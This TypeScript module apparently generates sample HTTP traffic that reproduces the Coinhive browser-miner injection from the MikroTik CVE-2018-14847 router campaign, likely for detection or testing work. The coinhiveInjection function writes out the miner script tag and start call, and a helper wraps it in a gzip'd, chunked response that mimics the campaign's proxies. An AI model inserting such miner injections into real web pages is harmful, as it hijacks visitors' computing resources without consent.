/**
 * The browser-miner injection seen in the MikroTik (CVE-2018-14847) campaign: every page
 * served through an infected router carried the Coinhive loader and a start call.
 */
import { htmlPage, httpResponse } from './http.js';

export const COINHIVE_SCRIPT_HOST = 'coinhive.com';
export const COINHIVE_SCRIPT_PATH = '/lib/coinhive.min.js';
export const COINHIVE_SOCKET_HOSTS = ['ws001.coinhive.com', 'ws005.coinhive.com', 'ws014.coinhive.com', 'ws027.coinhive.com'];

export function coinhiveInjection(siteKey: string): string {
  return `<script src="https://${COINHIVE_SCRIPT_HOST}${COINHIVE_SCRIPT_PATH}"></script>` +
    `<script>var miner = new CoinHive.Anonymous('${siteKey}');miner.start();</script>`;
}

/** An HTTP 200 page with the injected miner, gzip'd and chunked like the campaign's proxies. */
export function injectedPageResponse(title: string, siteKey: string, size: number, pick: (n: number) => number): { response: Buffer; html: Buffer } {
  const html = htmlPage(title, size, pick, coinhiveInjection(siteKey));
  const response = httpResponse(200, [
    ['Server', 'nginx'],
    ['Content-Type', 'text/html; charset=utf-8'],
    ['Connection', 'keep-alive'],
    ['Cache-Control', 'no-cache'],
  ], html, { gzip: true, chunkSize: 4096 });
  return { response, html };
}
